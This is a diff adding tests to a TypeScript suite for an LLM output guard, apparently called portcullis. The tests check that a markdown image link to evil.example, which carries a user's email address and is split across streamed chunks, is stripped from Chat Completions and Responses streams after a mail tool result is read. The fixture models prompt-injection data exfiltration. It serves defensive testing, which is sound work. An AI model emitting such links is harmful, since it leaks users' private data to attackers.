@@ -169,3 +169,48 @@ describe.each(Object.entries(hosts))('%s', (_, answer) => {
     expect((await answer(createGuard({ engine: counting(), on: { output: 'off' } }), LEAK)).text).toBe(LEAK);
   });
 });
+
+describe('a comment between the pieces of a link', () => {
+  const PING = ': ping\n\n';
+  const pieces = [`${HONEST}![c](https://evil`, '.example/p?d=anna@acme.example) Done.'];
+
+  async function shown(path: string, body: object, lines: readonly string[]): Promise<string> {
+    const reply = new Response(lines.join(''), { headers: { 'content-type': 'text/event-stream' } });
+    const fetch = guardFetch(createGuard({ engine: counting() }), async () => reply);
+    const sent = { method: 'POST', body: JSON.stringify({ model: 'm', stream: true, ...body }) };
+    return (await fetch(`http://openai.test/v1/${path}`, sent)).text();
+  }
+
+  it('ends no text of Chat Completions', async () => {
+    const messages = [
+      { role: 'user', content: SAID },
+      { role: 'assistant', content: null, tool_calls: toolCalls },
+      { role: 'tool', tool_call_id: 't', content: MAIL },
+    ];
+    const [first, second] = pieces.map(
+      (content) => `data: ${JSON.stringify({ choices: [{ index: 0, delta: { content } }] })}\n\n`,
+    );
+    const text = await shown('chat/completions', { messages }, [`${first}`, PING, `${second}`, 'data: [DONE]\n\n']);
+    expect(text).toContain('removed by portcullis');
+    expect(text).toMatch(/Done\..*data: \[DONE\]\n\n$/s);
+    expect(text).not.toContain('evil');
+    expect(text).toContain(':\n\n');
+  });
+
+  it('ends no text of Responses; one that never came in pieces is shown as in one piece', async () => {
+    const input = [
+      { role: 'user', content: SAID },
+      { type: 'function_call', call_id: 't', name: 'mail', arguments: '{}' },
+      { type: 'function_call_output', call_id: 't', output: MAIL },
+    ];
+    const place = { item_id: 'i', output_index: 0, content_index: 0 };
+    const line = (data: object): string => `data: ${JSON.stringify({ ...place, ...data })}\n\n`;
+    const [first, second] = pieces.map((delta) => line({ type: 'response.output_text.delta', delta }));
+    const done = line({ type: 'response.output_text.done', text: pieces.join('') });
+    for (const lines of [[`${first}`, PING, `${second}`, done], [done]]) {
+      const text = await shown('responses', { input }, lines);
+      expect(text).not.toContain('evil');
+      expect(text.match(/removed by portcullis/g)).toHaveLength(lines.length > 1 ? 2 : 1);
+    }
+  });
+});
